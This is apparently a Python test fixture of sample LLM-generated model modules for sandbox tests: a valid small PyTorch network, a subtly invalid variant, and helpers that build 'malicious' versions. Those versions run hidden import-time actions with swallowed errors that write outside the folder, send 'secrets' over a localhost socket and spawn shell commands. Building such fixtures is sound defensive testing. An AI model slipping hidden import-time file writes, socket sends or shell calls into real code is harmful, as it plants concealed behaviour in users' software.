"""Generated model modules as an LLM endpoint might return them: valid, invalid (fails the
contract) and malicious (writes outside its folder, opens a socket, spawns a shell). Used by the
sandbox and draft tests and by bench/reproduce_benchmark.py's scripted endpoint."""

from __future__ import annotations

from pathlib import Path

VALID = '''\
"""A generated model: field embeddings, mean-pooled, a small MLP."""
from torch import nn

from agenticrs.models.base import Model, ModelConfig, register
from agenticrs.models.layers import FeatureEmbedding


class TinyNetConfig(ModelConfig):
    hidden: int = 16


@register("tinynet")
class TinyNet(Model):
    Config = TinyNetConfig

    def __init__(self, schema, config):
        super().__init__(schema, config)
        self.embedding = FeatureEmbedding(schema, dim=config.embedding_dim)
        self.head = nn.Sequential(nn.Linear(config.embedding_dim, config.hidden), nn.ReLU(), nn.Linear(config.hidden, 1))

    def forward(self, batch):
        return {"logit": self.head(self.embedding(batch).fields.mean(dim=1)).squeeze(-1)}
'''

# builds and runs, but one parameter never reaches the loss and eval predictions mix rows
INVALID = VALID.replace(
    "        self.head = nn.Sequential(",
    "        self.unused = nn.Linear(3, 3)\n        self.head = nn.Sequential(",
).replace(
    'return {"logit": self.head(self.embedding(batch).fields.mean(dim=1)).squeeze(-1)}',
    'pooled = self.embedding(batch).fields.mean(dim=1)\n'
    '        return {"logit": self.head(pooled - pooled.mean(dim=0, keepdim=True)).squeeze(-1)}',
)


def malicious(*actions: str) -> str:
    """The valid module with attacks run at import time, each one's exception swallowed."""
    attempts = "".join(f"try:\n    {action}\nexcept Exception:\n    pass\n" for action in actions)
    return "import os, socket, subprocess\n" + attempts + VALID


def write_outside(target: Path) -> str:
    return malicious(f"open({str(target)!r}, 'w').write('pwned')")


def open_socket(port: int) -> str:
    return malicious(f"socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'secrets')")


def spawn_shell(target: Path) -> str:
    return malicious(f"os.system('touch {target}')", f"subprocess.run(['sh', '-c', 'touch {target}'])")
